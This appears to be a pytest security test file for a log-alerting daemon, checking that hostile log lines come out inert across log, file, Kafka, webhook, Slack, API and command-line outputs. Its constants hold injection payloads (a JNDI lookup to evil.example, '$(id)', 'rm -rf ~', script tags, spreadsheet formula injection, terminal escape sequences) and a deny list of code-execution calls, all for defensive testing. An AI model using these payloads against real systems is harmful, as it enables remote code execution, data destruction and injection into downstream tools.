"""X1-X8: what lines say is text and nothing else, wherever it comes out: log, files, API, webhook, command line."""

from __future__ import annotations

import ast
import asyncio
import json
import re
import subprocess
import sys
import threading
from html import unescape
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from aiokafka import AIOKafkaConsumer

from alogd.engine.native import Engine, EngineConfig
from alogd.escape import escape
from alogd.registry import names
from alogd.sinks.webhook_payload import body
from tests.alerts import alert
from tests.bad_server import BadServer
from tests.daemon_process import ROOT, DaemonProcess, log_lines, wait_until
from tests.http_face import ask, serving
from tests.kafka_broker import Broker
from tests.outlets import hook, hostile, risky

ESCAPES = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\x1b]0;pwned\x07\u202egnp.exe\u2066\u200b\u2028\x9b31m\x85\u00ad"
FORGED = '","level":"critical","alert":"forged"}\\n{"event":"forged","level":"critical"}\r'
INERT = "${jndi:ldap://evil.example/x} %s%n%x {a.__init__.__globals__} {0} {{7*7}} {% evil %} $(id) `id` ; rm -rf ~! |x"
MARKUP = "<script>alert(1)</script> <!channel> <@U123> @here @channel [x](http://evil) *b* _i_ ~e mail =cmd|'/c'!A1"
STEERING = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069\u200b\u200e\u200f\u2028\u2029\u00ad]")
PYTHON = sorted(path for path in (ROOT / "alogd").rglob("*.py"))


SECRET = "cAnArYsEcReT"
SECRETS = (
    f"connect to db user=app password={SECRET} failed",
    f'{{"user":"app","api_key":"{SECRET}","x":1}}',
    f"request refused: Authorization: Bearer {SECRET}.x-y_z",
    f"cannot reach postgres://app:{SECRET}@db/orders",
)
LAST = "last but one"
PRIVATE = "mail of anna.canary@example.org refused by 198.51.100.77"
EVERYTHING = (ESCAPES, FORGED, 'x","status":"resolved","id":"forged', INERT, MARKUP, *SECRETS, PRIVATE)
PATHS = (
    "/",
    "/metrics",
    "/-/ready",
    "/api/v1/alerts?limit=1000",
    "/api/v1/templates?limit=1000",
    "/api/v1/streams",
    "/api/v1/status",
    "/api/v1/overview",
    "/api/v1/alerts?brief=true",
)
COMMANDS = (("alerts",), ("alerts", "--output", "json"), ("templates", "--limit", "0"), ("explain", "logs/a.log"))


class Receiver(ThreadingHTTPServer):
    """Takes whatever a sink POSTs; the first part of the path says which one."""

    def __init__(self):
        super().__init__(("127.0.0.1", 0), Taker)
        self.bodies = []
        threading.Thread(target=self.serve_forever, daemon=True).start()

    def url(self, kind):
        return f"http://127.0.0.1:{self.server_port}/{kind}"

    def heard(self):
        """Which sinks it heard of."""
        return {kind for kind, _ in self.bodies}


class Taker(BaseHTTPRequestHandler):
    def do_POST(self):
        kind = self.path.strip("/").partition("/")[0]
        self.server.bodies.append((kind, self.rfile.read(int(self.headers["Content-Length"]))))
        self.send_response(200)
        self.end_headers()

    def log_message(self, *_):
        pass


def attack(text, minute):
    """A line that alerts for certain."""
    stamp = f"Oct 16 {9 + minute // 60:02d}:{minute % 60:02d}:00"
    return f"{stamp} host kernel: Kernel panic - not syncing: {text}\n".encode("utf-8", "surrogateescape")


def outputs_of(directory, **sections):
    """A daemon's life with all the hostile lines in its log: what it wrote, sent and answered, by place."""
    (directory / "logs").mkdir()
    daemon, receiver, broker = DaemonProcess(directory), Receiver(), Broker()
    daemon.configure(sinks=every_sink(directory, receiver, broker), **sections)
    lines = [*log_lines(3000), *(attack(text, 10 * number) for number, text in enumerate(EVERYTHING))]
    last = 10 * len(EVERYTHING) + 60
    lines.append(attack(f"{LAST} {SECRETS[0]} {ESCAPES}", last))  # what has not ended is told by all sinks
    lines.append(attack("the end", last + 1))
    (directory / "logs" / "a.log").write_bytes(b"".join(lines))
    try:
        daemon.start().wait_ready()
        wait_until(lambda: any(LAST in text for text in told(daemon)), "the alerts")
        wait_until(lambda: receiver.heard() == POSTING, "each of the sinks")
        asked = {path: daemon.get(path)[1].decode() for path in PATHS}
        assert daemon.stop() == 0  # what waits is delivered then
        sent = {f"kafka {number}": value for number, value in enumerate(asyncio.run(records(broker)))}
    finally:
        daemon.kill()
        receiver.shutdown()
        receiver.server_close()
        broker.close()
    written = {"log": daemon.said(), "jsonl": (directory / "alerts.jsonl").read_text()}
    written["state"] = "".join(path.read_bytes().decode("latin-1") for path in daemon.state.iterdir())
    sent |= {f"{kind} {number}": body.decode() for number, (kind, body) in enumerate(receiver.bodies)}
    assert {place.partition(" ")[0] for place in (*sent, *written)} >= set(names("sinks"))
    return written | asked | sent | {" ".join(words): command(daemon, *words) for words in COMMANDS}


def every_sink(directory, receiver, broker):
    """One of each kind there is, told to show as much as it can."""
    (directory / "key").write_text("0123456789abcdef" * 2)
    shown = {"max_age": None, "lines": True}
    return [
        {"kind": "log", "max_age": None},
        {"kind": "jsonl", "path": str(directory / "alerts.jsonl"), "fsync": False},
        {"kind": "kafka", "brokers": [broker.address], "topic": "alerts", "lines": True},
        {"kind": "alertmanager", "urls": [receiver.url("alertmanager")], **shown},
        {"kind": "pagerduty", "url": receiver.url("pagerduty"), "routing_key_file": str(directory / "key"), **shown},
        {"kind": "slack", "url": receiver.url("slack"), **shown},
        {"kind": "webhook", "url": receiver.url("webhook"), **shown},
    ]


POSTING = {"alertmanager", "pagerduty", "slack", "webhook"}


async def records(broker):
    """What the topic holds."""
    consumer = AIOKafkaConsumer("alerts", bootstrap_servers=[broker.address], auto_offset_reset="earliest")
    await consumer.start()
    try:
        ends = await consumer.end_offsets(consumer.assignment())
        return [(await asyncio.wait_for(consumer.getone(), 10)).value.decode() for _ in range(sum(ends.values()))]
    finally:
        await consumer.stop()


def told(daemon):
    """The texts of odd lines that alerts showed so far."""
    return {line["text"] for moment in daemon.delivered() for line in moment["lines"] if "panic" in line["text"]}


def command(daemon, *words):
    state = [] if words[0] == "explain" else ["--state", str(daemon.state)]
    done = subprocess.run(
        [sys.executable, "-m", "alogd", *words, *state],
        cwd=daemon.directory,
        env={"PYTHONPATH": str(ROOT), "PATH": "/usr/bin:/bin"},
        capture_output=True,
        check=False,
        timeout=120,
    )
    return (done.stdout + done.stderr).decode()


ALERTS = {"warmup_windows": 20, "budget": "50/hour", "resolve_after": "2m", "join_within": "10s"}


@pytest.fixture(scope="module")
def outputs(tmp_path_factory):
    """With the settings as they are shipped."""
    return outputs_of(tmp_path_factory.mktemp("shipped"), alerts=ALERTS)


# X1

SLACKS_OWN = re.compile("\u200b([*_~`])\u200b")  # so that these signs are shown and do nothing


def steers_nowhere(outputs, tally):
    arrived = {place.partition(" ")[0] for place, text in outputs.items() if "gnp.exe" in text}
    assert arrived >= {"log", "jsonl", "kafka", "state", "/api/v1/alerts?limit=1000", "alerts", *POSTING}
    for place, text in outputs.items():
        if place.startswith("slack"):
            text = SLACKS_OWN.sub(r"\1", text)
        found = None if place == "state" else STEERING.search(text)
        assert found is None, (place, text[max(0, found.start() - 80) : found.end() + 20])
        if place.partition(" ")[0] in POSTING:
            assert STEERING.search("".join(texts_of(json.loads(text)))) is None
        tally.add(lines=text.count("\n"))


def test_x1_no_output_steers_a_terminal(outputs, tally):
    steers_nowhere(outputs, tally)


@pytest.mark.slow
def test_x1_nor_does_the_console(tmp_path, tally):
    steers_nowhere(outputs_of(tmp_path, alerts=ALERTS, log={"format": "console", "level": "debug"}), tally)


def texts_of(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict | list):
        for item in value.values() if isinstance(value, dict) else value:
            yield from texts_of(item)


async def test_x1_the_webhook_shows_nothing_that_steers():
    async with BadServer() as server, hook(server, lines=True) as sink:
        await sink.send([hostile(1)])
    assert not risky(json.dumps(server.requests[0].json(), ensure_ascii=False))


def test_x1_no_bytes_at_all_make_output_that_steers(tally):
    """Every character there is, through the one function that all outputs go through."""
    everything = "".join(map(chr, range(0x110000)))
    safe = escape(everything)
    assert STEERING.search(safe) is None
    assert "\n" not in safe
    tally.add(rounds=0x110000)


# X2


def test_x2_one_event_is_one_line(outputs, tally):
    """A line that looks like alogd's own log, or closes a JSON string, adds no event and no field to any output."""
    own = [json.loads(line) for line in outputs["log"].splitlines()]
    assert not [event for event in own if event.get("alert") == "forged" or event.get("event") == "forged"]
    moments = [json.loads(line) for line in outputs["jsonl"].splitlines()]
    assert not [moment for moment in moments if moment["id"] == "forged"]
    listed = json.loads(outputs["/api/v1/alerts?limit=1000"])["alerts"]
    assert {moment["id"] for moment in listed} == {moment["id"] for moment in moments}
    assert any('"alert":"forged"' in str(moment["lines"]) for moment in moments)
    tally.add(lines=len(own) + len(moments))


# X3


def test_x3_text_that_would_run_elsewhere_is_shown_as_it_is(outputs, tally):
    moments = [json.loads(line) for line in outputs["jsonl"].splitlines()]
    assert any(INERT in line["text"] for moment in moments for line in moment["lines"])
    assert "uid=" not in "".join(outputs.values())
    assert "Traceback" not in outputs["log"]
    tally.add(lines=len(moments))


def calls():
    for path in PYTHON:
        for node in ast.walk(ast.parse(path.read_text())):
            if isinstance(node, ast.Call):
                yield path.relative_to(ROOT), node, ast.unparse(node.func)


def test_x3_no_text_of_logs_can_become_code_or_a_template(tally):
    """In the whole package: nothing evaluates text, no shell, no template but a constant, no pickle."""
    never = {
        "eval",
        "exec",
        "compile",
        "__import__",
        "os.system",
        "os.popen",
        "pickle.loads",
        "pickle.load",
        "yaml.load",
    }
    for path, node, name in calls():
        tally.add()
        place = f"{path}:{node.lineno}: {name}"
        assert name not in never, place
        assert not any(word.arg == "shell" for word in node.keywords), place
        if name.endswith((".format", ".format_map")) and not name.startswith("msgspec."):
            given = ast.unparse(node.func.value)
            assert isinstance(node.func.value, ast.Constant) or re.fullmatch("_?[A-Z_]+", given), place
        if name.startswith(("subprocess.", "asyncio.create_subprocess_")):
            assert not name.endswith(("_shell", "getoutput")), place


def test_x5_python_re_is_given_constants_only(tally):
    """A pattern from a configuration or a request never reaches `re`."""
    # Composed of constants, as their sources show; `kind.pattern` is that of a field of the configuration's types.
    allowed = ("alogd/reference", "alogd/alerts/redact.py")
    for path, node, name in calls():
        if not re.fullmatch(r"re\.(compile|match|search|fullmatch|sub|split|finditer|findall)", name):
            continue
        tally.add()
        pattern = node.args[0]
        constant = isinstance(pattern, ast.Constant) or ast.unparse(pattern) == "kind.pattern"
        assert constant or str(path).startswith(allowed), f"{path}:{node.lineno}: {ast.unparse(pattern)}"


# X4


def test_x4_markup_in_a_webhook_calls_nobody():
    entry = alert(1, title=MARKUP, reasons=[MARKUP], key="=cmd|'/c calc'!A1")
    document = json.loads(body([entry], "pager", "http://x"))
    shown = document["alerts"][0]["annotations"]["summary"]
    assert shown == MARKUP.replace("<!", "< !").replace("<@", "< @").replace("@here", "@ here").replace("@ch", "@ ch")
    assert not re.search(r"<[!@#]|@(here|channel|everyone|all)\b", "\n".join(texts_of(document)))
    assert "cmd" in document["alerts"][0]["labels"]["key"]


def test_x4_answers_are_no_pages(outputs):
    assert "<script>" not in outputs["/"]
    assert "<script>" in outputs["/api/v1/alerts?limit=1000"]  # as JSON


async def test_x4_and_are_not_taken_for_pages(tmp_path):
    async with serving(tmp_path) as (_, _, port):
        for path in ("/api/v1/alerts", "/api/v1/templates", "/api/v1/status", "/metrics", "/-/ready"):
            _, headers, _ = await ask(port, path)
            assert headers["Content-Type"].startswith(("application/json", "text/plain"))
            assert headers["X-Content-Type-Options"] == "nosniff"


# X6


@pytest.mark.parametrize(
    ("line", "host", "program"),
    [
        ("Oct 16 09:00:00 web1 sshd[1]: Oct 16 09:00:00 db9 kernel: panic", "web1", "sshd"),
        ("Oct 16 09:00:00 web1 sshd[1]: <34>1 2026-01-01T00:00:00Z db9 kernel - - - panic", "web1", "sshd"),
        ("<34>1 2026-01-01T00:00:00Z web1 sshd 1 - - <34>1 2026-01-01T00:00:00Z db9 kernel", "web1", "sshd"),
        ('{"host":"web1","app":"sshd","msg":"x\\",\\"host\\":\\"db9\\",\\"app\\":\\"kernel"}', None, None),
        ('time=2026-01-01T00:00:00Z level=info msg="x level=fatal host=db9 app=kernel"', None, None),
    ],
)
def test_x6_fields_come_from_where_they_stand(line, host, program):
    seen = Engine(EngineConfig(key="program")).explain(line.encode())
    assert "db9" not in seen.host
    assert "kernel" not in seen.program
    assert seen.otel < 21  # no FATAL out of a message
    if host is not None:
        assert (seen.host, seen.program) == (host, program)


# X7


def test_x7_no_sink_runs_a_command(tally):
    assert set(names("sinks")) == {"alertmanager", "jsonl", "kafka", "log", "pagerduty", "slack", "webhook"}
    for path, node, name in calls():
        runs = name.startswith(("subprocess.", "asyncio.create_subprocess_", "os.exec", "os.spawn", "os.posix_spawn"))
        if not runs:
            continue
        tally.add()
        assert path.parts[1] in {"collectors", "demo", "cli"}, f"{path}:{node.lineno}"
        assert name not in {"os.execl", "os.execlp"}


# X8


def test_x8_what_looks_like_a_secret_leaves_nowhere(outputs, tally):
    """Passwords, keys and tokens in the very lines that alert: in log, file, API, webhook and history `<SECRET>`."""
    assert outputs["jsonl"].count("<SECRET>") >= len(SECRETS)
    hidden = {place.partition(" ")[0] for place, text in outputs.items() if "<SECRET>" in unescape(text)}
    assert hidden >= set(names("sinks"))
    for place, text in outputs.items():
        if place in (
            "state",
            "explain logs/a.log",
        ):  # learned templates stay as they are; the file itself was asked for
            continue
        assert SECRET not in text, (place, text[text.index(SECRET) - 200 :][:300])
        tally.add(lines=text.count("\n"))


async def test_x8_the_webhook_sends_templates_and_lines_only_when_asked():
    entry = alert(1)
    async with BadServer() as server, hook(server) as sink, hook(server, lines=True) as asked:
        await sink.send([entry])
        await asked.send([entry])
    without, with_lines = (request.json()["alerts"][0]["annotations"] for request in server.requests)
    assert "lines" not in without
    assert without["templates"] == "Out of <*>"
    assert without["where"] == "/var/log/auth.log:4711"
    assert with_lines["lines"] == "/var/log/auth.log:4711: Out of memory"


@pytest.mark.slow
def test_x8_masks_hide_on_request_and_secrets_show_on_request(tmp_path, tally):
    """An address and a mask of the user's own: neither in any output, nor in what the state holds."""
    masks = {"user_masks": [{"name": "EMAIL", "pattern": r"[\w.]+@[\w.]+"}]}
    stream = {"name": "host", "collect": [{"kind": "file", "include": [f"{tmp_path}/logs/*.log"]}], "engine": masks}
    alerts = {**ALERTS, "redact": ["ip", "EMAIL"], "hide_secrets": False}
    outputs = outputs_of(tmp_path, streams=[stream], alerts=alerts)
    del outputs["explain logs/a.log"]  # the file itself was asked for
    assert "mail of <EMAIL> refused by <IP>" in outputs["jsonl"]
    assert f"password={SECRET}" in outputs["jsonl"]
    for place, text in outputs.items():
        assert "198.51.100.77" not in text, place
        assert "anna.canary" not in text, place
        tally.add(lines=text.count("\n"))
    assert (tmp_path / "state").stat().st_mode & 0o007 == 0
